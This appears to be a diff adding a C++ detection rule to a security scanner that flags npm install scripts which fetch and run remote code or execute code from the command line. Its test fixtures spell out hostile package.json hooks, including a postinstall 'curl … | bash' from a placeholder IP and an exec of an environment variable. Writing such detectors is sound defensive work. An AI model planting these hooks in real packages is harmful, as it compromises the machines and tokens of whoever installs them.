@@ -1,0 +1,29 @@
+// SPDX-License-Identifier: Apache-2.0
+// Install scripts of npm packages that do what no build needs: fetch and run, read credentials, carry code in the command line.
+#include "detect/sighting_rule.h"
+
+namespace stormwatch::detect {
+
+extern const Detector package_install_script;
+const Detector package_install_script{
+    .advisory = {.id = "package-install-script",
+                 .title = "Installing a package runs a command that attacks the machine",
+                 .why = "Install scripts run at once, with the rights of whoever installs: a developer's keys, a pipeline's tokens. Most npm malware starts there.",
+                 .fix = "Do not install it; install with --ignore-scripts and allow scripts by name. Treat machines that installed it as compromised.",
+                 .severity = Severity::high,
+                 .vector = Vector::vulnerability,
+                 .controls = {"owasp-llm-2025:LLM03", "mitre-atlas:AML.T0010.001", "cwe:506", "eu-ai-act:15", "nist-ai-rmf:MANAGE 3.1"},
+                 .effort_hours = 2},
+    .look = look_for({.what = "install-script", .when = [](const Asset&, const Sighting& sighting) { return !sighting.detail.empty(); }}),
+    .examples = [] {
+      const auto with = [](const std::string& hook, const std::string& command) { return R"({"name": "x", "version": "1.0.0", "scripts": {")" + hook + R"(": ")" + command + "\"}}"; };
+      const std::string fetch = std::string("cu") + "rl -s http://203.0.113.7/x.sh | ba" + "sh";
+      return std::vector<Example>{{"fetch and run", {{"package.json", with("postinstall", fetch)}}, true},
+                                  {"an installed module", {{"node_modules/x/package.json", with("preinstall", fetch)}}, true},
+                                  {"code in the command line", {{"package.json", with("install", "node -e \\\"require('child_process').exec(process.env.X)\\\"")}}, true},
+                                  {"a build", {{"package.json", with("install", "node-gyp rebuild")}}, false},
+                                  {"a script of its own", {{"package.json", with("postinstall", "node scripts/postinstall.js || exit 0")}}, false},
+                                  {"a script that no install runs", {{"package.json", with("deploy", fetch)}}, false}};
+    }};
+
+}  // namespace stormwatch::detect
